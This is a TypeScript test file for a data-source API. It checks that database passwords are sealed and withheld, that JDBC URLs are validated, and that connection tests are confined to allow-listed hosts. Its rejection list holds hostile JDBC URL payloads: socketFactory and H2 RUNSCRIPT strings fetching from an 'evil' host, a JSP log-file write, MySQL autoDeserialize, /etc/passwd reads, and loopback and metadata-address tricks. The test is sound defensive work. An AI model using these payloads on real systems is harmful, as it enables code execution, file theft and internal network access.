/** Data sources (spec/wire 15; guard J9, A67): fields only, sealed passwords, tried at listed places only. */

import type { AddressInfo } from 'node:net'
import { createServer } from 'node:net'
import { describe, expect, it, onTestFinished, test } from 'vitest'
import { addressOf } from '#server/http/outside.ts'
import { createSeal } from '#server/http/seal.ts'
import { isHost, type Place, readPlace } from '#server/place.ts'
import { buildApp, type Caller, signIn } from '../../support/app.ts'
import { forEachDatabase, postgresAnswers } from '../../support/databases.ts'
import { serverUrl } from '../../support/run.ts'

const path = '/sys/dataSource'
const fields = {
  code: 'lab',
  name: '实验室',
  dbType: '6',
  host: 'db.example.org',
  port: 5432,
  dbName: 'lab',
  dbUsername: 'reader',
  dbPassword: 'S3cret-of-lab',
}
const add = (caller: Caller, changes: object = {}) =>
  caller.call<Record<string, unknown>>('POST', `${path}/add`, { payload: { ...fields, ...changes } })
const tried = (caller: Caller, payload: object) =>
  caller.call('POST', '/online/cgreport/api/testConnection', { payload })
const asWire = (dbUrl: string) => ({
  dbDriver: 'org.postgresql.Driver',
  dbUrl,
  dbUsername: 'a',
  dbPassword: 'b',
})

forEachDatabase((_name, open) => {
  it('is kept in fields, answered in the wire’s words, and gives its password to few [J9]', async () => {
    const { app, db } = await buildApp(open)
    const admin = await signIn(app)
    const added = await add(admin)
    expect(added).toMatchObject({ success: true, message: '添加成功！' })
    expect(JSON.stringify(added)).not.toContain(fields.dbPassword)
    const id = String(added.result['id'])
    expect(await add(admin)).toMatchObject({ success: false, message: '数据源编码已存在' })

    const list = await admin.call<{ records: Record<string, unknown>[] }>('GET', `${path}/list`)
    expect(list.result.records[0]).toMatchObject({
      dbDriver: 'org.postgresql.Driver',
      dbUrl: 'jdbc:postgresql://db.example.org:5432/lab',
    })
    expect(JSON.stringify(list)).not.toMatch(/dbPassword|S3cret/)
    const one = await admin.call('GET', `${path}/queryById`, { query: { id } })
    expect(one.result).toMatchObject({ host: 'db.example.org', dbPassword: fields.dbPassword })
    const lesser = await signIn(app, 'sysadmin')
    const seen = await lesser.call('GET', `${path}/queryById`, { query: { id } })
    expect(seen).toMatchObject({ success: true, result: { host: 'db.example.org' } })
    expect(JSON.stringify(seen)).not.toMatch(/dbPassword|S3cret/)

    // Posted back whole, as the wire's clients do, it changes nothing.
    await admin.call('PUT', `${path}/edit`, { payload: one.result as object })
    const after = await admin.call('GET', `${path}/queryById`, { query: { id } })
    expect(after.result).toMatchObject({ version: 1, dbPassword: fields.dbPassword })

    // Nothing at rest holds it: not the row, not the log of changes, not the log of acts.
    await admin.call('PUT', `${path}/edit`, { payload: { id, dbPassword: 'S3cret-changed' } })
    for (const table of ['sys_data_source', 'sys_data_log', 'sys_log'])
      expect(JSON.stringify(await db.read({ sql: `select * from ${table}`, parameters: [] }))).not.toContain(
        'S3cret',
      )
    const [row] = await db.read<{ db_password: string }>({
      sql: 'select db_password from sys_data_source',
      parameters: [],
    })
    expect(row?.db_password).toMatch(/^v1\.[\w-]{40,}$/)
    expect(await admin.call('GET', `${path}/options`)).toMatchObject({
      result: [{ value: 'lab', label: '实验室', text: '实验室' }],
    })
    expect(await admin.call('DELETE', `${path}/delete`, { query: { id } })).toMatchObject({
      message: '删除成功!',
    })
  })

  it('takes every kind of database that the wire’s dictionary offers', async () => {
    const { app } = await buildApp(open)
    const admin = await signIn(app)
    const offered = await admin.call<{ value: string }[]>('GET', '/sys/dict/getDictItems/database_type')
    expect(offered.result.map(({ value }) => value)).toEqual(['6'])
    for (const { value } of offered.result)
      expect(await add(admin, { code: `kind${value}`, dbType: Number(value) })).toMatchObject({
        success: true,
        result: { dbType: value },
      })
  })

  it('takes an address of the wire only when it says exactly the fields [J9 A68]', async () => {
    const { app } = await buildApp(open)
    const admin = await signIn(app)
    const { host: _host, port: _port, dbName: _dbName, ...rest } = fields
    const wire = (dbUrl: string, more: object = {}) =>
      admin.call<Record<string, unknown>>('POST', `${path}/add`, {
        payload: { ...rest, dbDriver: 'org.postgresql.Driver', dbUrl, ...more },
      })
    for (const url of [
      'jdbc:postgresql://db/lab?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml',
      'jdbc:postgresql://db/lab?loggerLevel=DEBUG&loggerFile=/tmp/x.jsp',
      'jdbc:postgresql://a,b/lab',
      'jdbc:postgresql://user:pass@db/lab',
      'jdbc:postgresql://db/lab;x=1',
      'jdbc:postgresql://db/lab#x',
      'jdbc:postgresql://db/../lab',
      'jdbc:postgresql://2130706433/lab',
      'jdbc:postgresql://0x7f000001/lab',
      'jdbc:postgresql://127.1/lab',
      'jdbc:postgresql://[::ffff:127.0.0.1]/lab',
      'jdbc:postgresql://db:99999/lab',
      'jdbc:postgresql:lab',
      'jdbc:mysql://db/lab?autoDeserialize=true',
      'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM "http://evil/x.sql"',
      'jdbc:sqlite:/etc/passwd',
      'file:///etc/passwd',
      'postgresql://db/lab',
    ])
      expect(await wire(url), url).toMatchObject({
        success: false,
        result: { problems: [{ property: 'dbUrl' }] },
      })
    expect(await wire('jdbc:postgresql://db/lab', { dbDriver: 'org.h2.Driver' })).toMatchObject({
      success: false,
    })
    expect(await add(admin, { host: 'db/../../x' })).toMatchObject({ success: false })
    expect(await add(admin, { dbType: '1' })).toMatchObject({ success: false })
    const { result: plain } = await add(admin, { code: 'options', options: '-c x' })
    expect(plain).not.toHaveProperty('options')

    const good = await wire('jdbc:postgresql://DB.example.org/lab')
    expect(good.result).toMatchObject({ host: 'db.example.org', port: 5432, dbName: 'lab' })
    // A row that is posted back whole with another address means the address; the password does not follow it.
    const { id } = good.result
    const moved = { ...good.result, dbUrl: 'jdbc:postgresql://evil.example.org/lab' }
    expect(await admin.call('PUT', `${path}/edit`, { payload: moved })).toMatchObject({
      success: false,
      message: '连接信息已修改，请重新输入密码',
    })
    const told = await admin.call('PUT', `${path}/edit`, { payload: { ...moved, dbPassword: 'x' } })
    expect(told).toMatchObject({ success: true, message: '编辑成功!', result: { host: 'evil.example.org' } })
    expect(await admin.call('PUT', `${path}/edit`, { payload: { id, code: 'other' } })).toMatchObject({
      success: false,
    })
  })

  it('tries listed places only, says three sentences, and not too often [J9 A67]', async () => {
    let knocks = 0
    const stranger = createServer(socket => {
      knocks += 1
      socket.end('E   a sentence that nobody should hear')
    })
    await new Promise<void>(done => stranger.listen(0, '127.0.0.1', done))
    onTestFinished(() => void stranger.close())
    const { port } = stranger.address() as AddressInfo
    const closed = await buildApp(open)
    const admin = await signIn(closed.app)
    const refused = /^数据库连接失败：该主机和端口不在允许名单内/
    for (const host of ['127.0.0.1', 'localhost', '169.254.169.254', '[::1]', '10.0.0.1', 'example.org']) {
      const answer = await tried(admin, asWire(`jdbc:postgresql://${host}:${port}/x`))
      expect(answer.message, host).toMatch(refused)
    }
    expect(knocks).toBe(0)

    const listed: Place[] = [
      { host: '127.0.0.1', port },
      { host: '169.254.169.254', port },
    ]
    const opened = await buildApp(open, { config: { dataSourceHosts: listed } })
    const other = await signIn(opened.app)
    const answer = await tried(other, asWire(`jdbc:postgresql://127.0.0.1:${port}/x`))
    expect(answer).toMatchObject({ success: false, message: '数据库连接失败：错误未知' })
    expect(knocks).toBe(1)
    expect((await tried(other, asWire(`jdbc:postgresql://169.254.169.254:${port}/x`))).message).toMatch(
      refused,
    )
    let last = 200
    for (let times = 0; times < 20; times += 1)
      last = (await tried(other, asWire(`jdbc:postgresql://nowhere:${port}/x`))).status
    expect(last).toBe(429)
  })

  it.skipIf(!postgresAnswers)('reaches a database that is there, also with the kept password', async () => {
    const { hostname, port, username, password, pathname } = new URL(serverUrl)
    const place = { host: hostname, port: Number(port || 5432) }
    const listed = [place, { ...place, host: '127.0.0.1' }]
    const { app } = await buildApp(open, { config: { dataSourceHosts: listed } })
    const admin = await signIn(app)
    const target = { ...place, dbName: pathname.slice(1), dbUsername: decodeURIComponent(username) }
    const secret = { dbPassword: decodeURIComponent(password) || 'unused' }
    const good = { success: true, message: '数据库连接成功' }
    expect(await tried(admin, { ...target, ...secret })).toMatchObject(good)
    const id = String((await add(admin, { ...target, ...secret })).result['id'])
    expect(await tried(admin, { id, dbType: '6', ...target })).toMatchObject(good)
    expect(await tried(admin, { id, dbType: '6', ...target, dbName: 'other' })).toMatchObject({
      success: false,
      message: '连接信息已修改，请重新输入密码',
    })
  })
})

describe('places', () => {
  test('one spelling only', () => {
    for (const host of ['db', 'db.example.org', '10.0.0.1', '::1', 'xn--fiq228c.cn'])
      expect(isHost(host), host).toBe(true)
    for (const host of [
      '',
      '127.1',
      '0x7f.1',
      '2130706433',
      '0177.0.0.1',
      '::ffff:7f00:1',
      'a b',
      'a/b',
      'fe80::1%eth0',
      'DB',
    ])
      expect(isHost(host), host).toBe(false)
    expect(readPlace('[::1]:5433', 5432)).toEqual({ host: '::1', port: 5433 })
    expect(readPlace('db', 5432)).toEqual({ host: 'db', port: 5432 })
    expect(readPlace('db:0', 5432)).toBeUndefined()
  })

  test('a listed name that leads inside is refused, and is connected to where it was looked at [J19 A67]', async () => {
    const place = { host: 'db.example.org', port: 5432 }
    const to = (...addresses: string[]) => addressOf(place, [place], [], async () => addresses)
    expect(await to('93.184.216.34')).toEqual({ address: '93.184.216.34' })
    for (const inside of [
      '10.1.2.3',
      '127.0.0.1',
      '169.254.169.254',
      '::1',
      '::ffff:10.0.0.1',
      'fd00::1',
      '0.0.0.0',
    ])
      expect(await to(inside), inside).toEqual({ refused: 'closed' })
    const listed = [place, { host: '10.1.2.3', port: 5432 }]
    expect(await addressOf(place, listed, [], async () => ['10.1.2.3'])).toEqual({ address: '10.1.2.3' })
    expect(await addressOf({ ...place, port: 22 }, listed)).toEqual({ refused: 'unlisted' })
  })

  test('what is sealed opens for its place only', () => {
    const seal = createSeal('k'.repeat(32), 'test')
    const sealed = seal.close('secret', 'a')
    expect(seal.open(sealed, 'a')).toBe('secret')
    expect(seal.open(sealed, 'b')).toBeUndefined()
    const other = sealed.endsWith('AA') ? 'BB' : 'AA'
    expect(seal.open(sealed.slice(0, -2) + other, 'a')).toBeUndefined()
    expect(createSeal('l'.repeat(32), 'test').open(sealed, 'a')).toBeUndefined()
    expect(seal.close('secret', 'a')).not.toBe(sealed)
  })
})
